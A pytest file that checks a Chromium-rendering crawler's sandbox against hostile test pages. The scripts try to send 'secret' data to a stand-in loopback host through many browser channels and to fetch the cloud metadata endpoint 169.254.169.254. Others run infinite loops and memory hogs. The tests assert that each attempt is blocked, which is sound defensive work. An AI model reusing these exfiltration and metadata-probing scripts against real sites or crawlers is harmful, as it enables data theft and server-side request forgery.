"""A hostile page rendered by the real Chromium (crawler/browser_page.py): it tries to reach another loopback host
by every channel a page has, loops forever, hogs memory, floods robots.txt-disallowed URLs, is too big to render,
and outlives a SIGKILL of its crawl. The other host is a bare TCP listener on 127.0.0.2 that counts every
connection, HTTP or not."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.crawls import child_env, done_event, events, run_crawler, toml_str, write_config
from tests.support.memory_hogs import HOGS
from tests.support.site_server import DATA, Page, SiteServer
from tests.test_crawler_browser import need_chromium

ROBOTS = b"User-agent: *\nDisallow: /private/\n"
RANK_JSON = (DATA / "render" / "rank.json").read_bytes()
# Fills the ranking (so the test can see the page was rendered) once `ready` resolves.
FILL = """
function fill() {
  return fetch("/rank.json").then(function (r) { return r.json(); }).then(function (rows) {
    document.getElementById("phb").innerHTML = rows.map(function (row) {
      return '<li><a href="' + row.url + '">' + row.title + '</a><time datetime="' + row.time + '">' + row.day
        + '</time></li>';
    }).join("");
  });
}
"""


def page(script: str, head: str = "") -> bytes:
    return (
        '<!DOCTYPE html><html><head><meta charset="utf-8"><title>hostile</title>' + head + "</head><body>"
        '<div class="box"><h3>最新文稿</h3><ul><li><a href="/a/1.html">第一篇</a> <span>01-03</span></li>'
        '<li><a href="/a/2.html">第二篇</a> <span>01-02</span></li></ul></div>'
        '<div class="box"><h3>阅读排行</h3><ul id="phb"></ul></div>'
        f"<script>{FILL}\n{script}</script></body></html>"
    ).encode()


class ConnectionCounter:
    """A TCP listener on another loopback host that accepts and counts every connection (and reads what comes)."""

    def __init__(self, host: str = "127.0.0.2") -> None:
        self.sock = socket.socket()
        try:
            self.sock.bind((host, 0))
        except OSError as exc:
            pytest.fail(f"cannot bind {host} for the 'another host' listener: {exc}")
        self.sock.listen(64)
        self.host, self.port = host, self.sock.getsockname()[1]
        self.hits: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def base(self) -> str:
        return f"http://{self.host}:{self.port}"

    def _serve(self) -> None:
        while True:
            try:
                conn, _addr = self.sock.accept()
            except OSError:
                return
            conn.settimeout(1)
            try:
                data = conn.recv(200)
            except OSError:
                data = b""
            self.hits.append(data)
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def other() -> Iterator[ConnectionCounter]:
    counter = ConnectionCounter()
    yield counter
    counter.close()


@pytest.fixture
def site() -> Iterator[SiteServer]:
    with SiteServer(DATA / "render") as server:
        yield server


def js(site: SiteServer, path: str, text: str) -> None:
    site.pages[path] = Page(text.encode(), "text/javascript")


def source(base_url: str, render: str = "auto", extra: str = "") -> str:
    return (
        f'[[sources]]\nid = "hp"\ntitle = "hostile"\nstart_urls = [{toml_str(base_url + "/")}]\n'
        f'timezone = "Asia/Shanghai"\nfollow_articles = false\nrender = "{render}"\n{extra}\n'
        '  [[sources.listings]]\n  id = "latest"\n  heading = "最新文稿"\n'
        '  [[sources.listings]]\n  id = "ranking"\n  kind = "ranking"\n  heading = "阅读排行"\n'
    )


def crawl(tmp_path: Path, site: SiteServer, *, render: str = "auto", timeout: float = 20, extra: str = "",
          wait: float = 180) -> dict[str, Any]:
    need_chromium()
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'feeds.db'}", [source(site.base_url, render, extra)],
                          timeout=timeout, retries=0)
    result = run_crawler(config, "hp", "--progress-json", "--now", "2026-01-05T12:00:00+08:00", timeout=wait)
    assert result.returncode in (0, 1), result.stderr
    done = done_event(result.stdout)
    done["stderr"] = result.stderr
    return done


def test_hostile_page_reaches_no_other_host_by_any_channel(tmp_path: Path, site: SiteServer,
                                                            other: ConnectionCounter) -> None:
    far = other.base
    js(site, "/worker.js", f"""
var tries = [];
try {{ new WebSocket("ws://{other.host}:{other.port}/worker-ws"); }} catch (e) {{}}
tries.push(fetch("{far}/worker-fetch").catch(function () {{}}));
try {{ var x = new XMLHttpRequest(); x.open("GET", "{far}/worker-xhr"); x.send(); }} catch (e) {{}}
Promise.all(tries).then(function () {{ postMessage("done"); }});
""")
    js(site, "/sw.js", f'self.addEventListener("fetch", function (e) {{ e.respondWith(fetch("{far}/sw")); }});')
    # A same-site URL that redirects away: the redirect is the fence's to judge, like any crawl redirect.
    site.pages["/go"] = Page(b"", "text/html", status=302, headers={"Location": far + "/redirected"})
    attack = f"""
var tries = [];
function attempt(f) {{ try {{ var p = f(); if (p && p.catch) tries.push(p.catch(function () {{}})); }} catch (e) {{}} }}
attempt(function () {{ return fetch("{far}/fetch"); }});
attempt(function () {{ return fetch("{far}/post", {{method: "POST", body: "secret"}}); }});
attempt(function () {{ return fetch("http://169.254.169.254/latest/meta-data/"); }});
attempt(function () {{ return fetch("/go"); }});
attempt(function () {{ var x = new XMLHttpRequest(); x.open("GET", "{far}/xhr"); x.send(); }});
attempt(function () {{ new WebSocket("ws://{other.host}:{other.port}/ws"); }});
attempt(function () {{ new EventSource("{far}/events"); }});
attempt(function () {{ navigator.sendBeacon("{far}/beacon", "data"); }});
attempt(function () {{ navigator.sendBeacon("/beacon", "data"); }});
attempt(function () {{ window.open("{far}/popup"); }});
attempt(function () {{ window.open("/a/1.html", "_blank"); }});
attempt(function () {{ return navigator.serviceWorker.register("/sw.js"); }});
attempt(function () {{ var s = document.createElement("script"); s.src = "{far}/evil.js";
  document.body.appendChild(s); }});
attempt(function () {{ var f = document.createElement("iframe"); f.src = "{far}/frame";
  document.body.appendChild(f); }});
attempt(function () {{ var i = new Image(); i.src = "{far}/pixel.png"; }});
var worker = new Promise(function (resolve) {{
  var w = new Worker("/worker.js"); w.onmessage = resolve; w.onerror = resolve; setTimeout(resolve, 3000);
}});
Promise.all(tries.concat([worker])).then(fill).then(function () {{
  var form = document.createElement("form"); form.method = "POST"; form.action = "{far}/form";
  var input = document.createElement("input"); input.name = "q"; input.value = "secret";
  form.appendChild(input); document.body.appendChild(form); form.submit();
}});
"""
    head = (f'<link rel="preconnect" href="{far}"><link rel="dns-prefetch" href="{far}">'
            f'<link rel="prefetch" href="{far}/prefetch"><link rel="stylesheet" href="{far}/style.css">')
    site.pages["/"] = Page(page(attack, head), "text/html; charset=utf-8")
    done = crawl(tmp_path, site)
    assert done["counts"]["listing_counts"] == {"latest": 2, "ranking": 3}, done  # rendered after every attempt
    assert other.hits == [], other.hits
    assert site.requests("/worker.js") and site.requests("/rank.json")
    assert not site.requests("/beacon") and not site.requests("/a/1.html") and not site.requests("/sw.js")
    message = done["message"]
    assert "rendered-page request(s) blocked" in message, message
    blocked = int(message.split(" rendered-page request(s) blocked")[0].rsplit("; ", 1)[1])
    # fetch, POST, metadata, redirect, XHR, WebSocket, EventSource, 2 beacons, 2 popups, script, iframe,
    # the worker's fetch, XHR and WebSocket, the prefetch and the form post: each refused and counted.
    assert blocked >= 15, message


def test_script_loop_is_killed_at_the_wall_clock_limit_and_the_source_goes_on(tmp_path: Path,
                                                                              site: SiteServer) -> None:
    site.pages["/"] = Page(page("fill(); while (true) {}"), "text/html; charset=utf-8")
    started = time.monotonic()
    done = crawl(tmp_path, site, timeout=4, wait=120)
    assert time.monotonic() - started < 60
    assert done["status"] == "partial", done
    assert "still busy after 4s" in done["message"], done
    assert done["counts"]["listing_counts"]["latest"] == 2  # the plain page's list was kept


def test_memory_hog_is_stopped_by_the_heap_cap(tmp_path: Path, site: SiteServer) -> None:
    hog = "var keep = []; while (true) { keep.push(new Array(1000000).fill(keep.length)); }"
    site.pages["/"] = Page(page(hog), "text/html; charset=utf-8")
    done = crawl(tmp_path, site, timeout=60, wait=120)
    assert done["status"] == "partial", done
    # The renderer died of the JS heap cap (256 MB) long before the 60 s limit.
    assert "still busy" not in done["message"], done
    assert done["counts"]["listing_counts"]["latest"] == 2


def test_scripts_requests_obey_robots_txt_and_the_delay(tmp_path: Path, site: SiteServer) -> None:
    site.pages["/robots.txt"] = Page(ROBOTS, "text/plain")
    for i in range(3):
        site.pages[f"/ok{i}.json"] = Page(b"{}", "application/json")
    script = """
var tries = [];
for (var i = 0; i < 50; i++) { tries.push(fetch("/private/" + i + ".json").catch(function () {})); }
var chain = Promise.resolve();
[0, 1, 2].forEach(function (i) { chain = chain.then(function () { return fetch("/ok" + i + ".json"); }); });
Promise.all(tries.concat([chain])).then(fill);
"""
    site.pages["/"] = Page(page(script), "text/html; charset=utf-8")
    done = crawl(tmp_path, site, extra="download_delay = 1.0")
    assert done["counts"]["listing_counts"] == {"latest": 2, "ranking": 3}, done
    assert not [r for r in site.requests() if r.path.startswith("/private/")]
    assert "50 rendered-page request(s) blocked" in done["message"], done
    # The delay holds for the page's own requests (±50% jitter): never two within half a second.
    times = sorted(r.at for r in site.requests() if r.path.startswith(("/ok", "/rank.json")))
    assert len(times) == 4 and min(b - a for a, b in zip(times, times[1:], strict=False)) >= 0.45, times


def test_page_over_the_size_cap_is_never_rendered(tmp_path: Path, site: SiteServer) -> None:
    big = page('fetch("/rendered-big");', head="<!--" + "x" * (21 * 1024 * 1024) + "-->")
    site.pages["/"] = Page(big, "text/html; charset=utf-8")
    done = crawl(tmp_path, site, render="browser")
    assert not site.requests("/rendered-big")
    assert done["status"] in ("failed", "partial"), done


def _descendants(root: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            children.setdefault(int(fields[1]), []).append(int(entry.name))
    found, todo = set(), [root]
    while todo:
        for child in children.get(todo.pop(), []):
            found.add(child)
            todo.append(child)
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")


def _spinning_site(site: SiteServer, paths: list[str]) -> dict[str, threading.Event]:
    """Pages at `paths` whose script tells the site it runs (GET <path>spinning) and then loops forever."""
    seen = {path: threading.Event() for path in paths}
    for path in paths:
        script = f'fetch("{path}spinning").then(function () {{ while (true) {{}} }});'
        site.pages[path] = Page(page(script), "text/html; charset=utf-8")
    record = site.record

    def watch(entry: Any) -> None:
        record(entry)
        if entry.path.endswith("spinning"):
            seen[entry.path[: -len("spinning")]].set()

    site.record = watch  # type: ignore[method-assign]
    return seen


def _chromium(pids: set[int]) -> set[int]:
    found = set()
    for pid in pids:
        try:
            if b"chrom" in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.add(pid)
        except OSError:
            pass
    return found


def _start_crawl(tmp_path: Path, sources: list[str], ids: list[str]) -> subprocess.Popen[bytes]:
    need_chromium()
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'feeds.db'}", sources, timeout=120, retries=0,
                          crawl_extra="concurrent_sources = 4\nbrowser_pages = 4")
    return subprocess.Popen([sys.executable, "-m", "crawler.run", *ids, "--config", str(config)],
                            env=child_env(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def _kill_and_wait(proc: subprocess.Popen[bytes], family: set[int]) -> list[int]:
    """SIGKILL the crawl; the processes of `family` still alive 30 s later."""
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 30
    while [pid for pid in family if _alive(pid)] and time.monotonic() < deadline:
        time.sleep(0.2)
    return [pid for pid in family if _alive(pid)]


def test_chromium_dies_with_a_sigkilled_crawl(tmp_path: Path, site: SiteServer) -> None:
    seen = _spinning_site(site, ["/"])
    proc = _start_crawl(tmp_path, [source(site.base_url, "browser")], ["hp"])
    family: set[int] = set()
    try:
        assert seen["/"].wait(90), "the page never ran its script"
        family = _descendants(proc.pid)
        assert _chromium(family), "no Chromium under the crawl process"
    finally:
        survivors = _kill_and_wait(proc, family)
    assert not survivors, "browser processes outlived the killed crawl"


def test_one_browser_serves_every_source_of_a_crawl_process(tmp_path: Path, site: SiteServer) -> None:
    seen = _spinning_site(site, ["/", "/b/"])
    # Another host name for the same server: sources sharing a host take turns (one politeness budget), and this
    # test needs two sources rendering at once.
    other_host = site.base_url.replace("127.0.0.1", "localhost")
    second = source(other_host + "/b", "browser").replace('id = "hp"', 'id = "hp2"')
    proc = _start_crawl(tmp_path, [source(site.base_url, "browser"), second], ["hp", "hp2"])
    family: set[int] = set()
    try:
        assert seen["/"].wait(90) and seen["/b/"].wait(90), "both sources' pages should be rendering"
        family = _descendants(proc.pid)
        browsers = {pid for pid in _chromium(family) if b"--type=" not in Path(f"/proc/{pid}/cmdline").read_bytes()}
        assert len(browsers) == 1, browsers  # two sources rendering at once, one Chromium
    finally:
        _kill_and_wait(proc, family)




@pytest.mark.parametrize("hog", sorted(HOGS))
def test_renderer_memory_outside_the_js_heap_is_capped(tmp_path: Path, site: SiteServer, hog: str) -> None:
    site.pages["/"] = Page(page(HOGS[hog]), "text/html; charset=utf-8")
    started = time.monotonic()
    done = crawl(tmp_path, site, timeout=90, wait=150)
    assert done["status"] == "partial", done
    assert "renderer used over 1024 MB of memory; it was killed" in done["message"], done
    assert "still busy" not in done["message"], done  # stopped by memory, well before the 90 s limit
    assert time.monotonic() - started < 80
    assert done["counts"]["listing_counts"]["latest"] == 2  # the plain page's list was kept


def test_a_hung_chromium_is_killed_and_the_next_source_gets_a_new_one(tmp_path: Path, site: SiteServer) -> None:
    """The browser process itself stops answering (SIGSTOP, as a wedged Chromium would): the page's wall-clock
    limit ends its render, closing it cannot finish, so the browser is killed; the next source renders with a
    newly launched one."""
    need_chromium()
    seen = _spinning_site(site, ["/"])
    site.pages["/b/"] = Page(page("fill();"), "text/html; charset=utf-8")
    # Another host name for the same server: sources sharing a host take turns (one politeness budget), and this
    # test needs two sources rendering at once.
    other_host = site.base_url.replace("127.0.0.1", "localhost")
    second = source(other_host + "/b", "browser").replace('id = "hp"', 'id = "hp2"')
    config = write_config(tmp_path, f"sqlite:///{tmp_path / 'feeds.db'}", [source(site.base_url), second],
                          timeout=6, retries=0, crawl_extra="concurrent_sources = 1")
    proc = subprocess.Popen([sys.executable, "-m", "crawler.run", "hp", "hp2", "--config", str(config),
                             "--progress-json", "--now", "2026-01-05T12:00:00+08:00"],
                            env=child_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert seen["/"].wait(90), "the page never ran its script"
        browsers = _browsers(_descendants(proc.pid))
        assert len(browsers) == 1, browsers
        hung = browsers.pop()
        os.kill(hung, signal.SIGSTOP)
        stdout, stderr = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    done = {e["source"]: e for e in events(stdout) if e["event"] == "done"}
    assert done["hp"]["status"] == "partial", done
    assert "did not close a busy page" in done["hp"]["message"] and "it was killed" in done["hp"]["message"], done
    assert done["hp"]["counts"]["listing_counts"]["latest"] == 2  # the source went on with the plain page
    assert done["hp2"]["status"] == "ok", (done, stderr[-2000:])
    assert done["hp2"]["counts"]["listing_counts"] == {"latest": 2, "ranking": 3}  # rendered by a new Chromium
    assert not _alive(hung)


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:  # gone meanwhile
        return b""


def _browsers(pids: set[int]) -> set[int]:
    return {pid for pid in _chromium(pids) if (line := _cmdline(pid)) and b"--type=" not in line}


def test_a_workers_websocket_is_refused_and_counted(tmp_path: Path, site: SiteServer,
                                                    other: ConnectionCounter) -> None:
    """Playwright's WebSocket routing does not reach workers; their sockets are counted with the page's
    refusals (the Chromium flags keep them from connecting: tests/test_crawler_browser.py)."""
    opener = (f'var s = new WebSocket("ws://{other.host}:{other.port}/worker-ws");'
              ' s.onclose = s.onerror = function () { postMessage("refused"); };')
    js(site, "/worker.js", opener)
    script = f"""
function run(w) {{ return new Promise(function (resolve) {{ w.onmessage = resolve; w.onerror = resolve; }}); }}
Promise.all([run(new Worker("/worker.js")),
             run(new Worker(URL.createObjectURL(new Blob([{opener!r}]))))]).then(fill);
"""
    site.pages["/"] = Page(page(script), "text/html; charset=utf-8")
    done = crawl(tmp_path, site)
    assert done["counts"]["listing_counts"] == {"latest": 2, "ranking": 3}, done  # rendered after both workers
    assert other.hits == [], other.hits
    message = done["message"]
    assert "; 2 rendered-page request(s) blocked (e.g. ws://127.0.0.2:" in message, message
    assert "a worker of the rendered page may not open WebSockets" in message, message
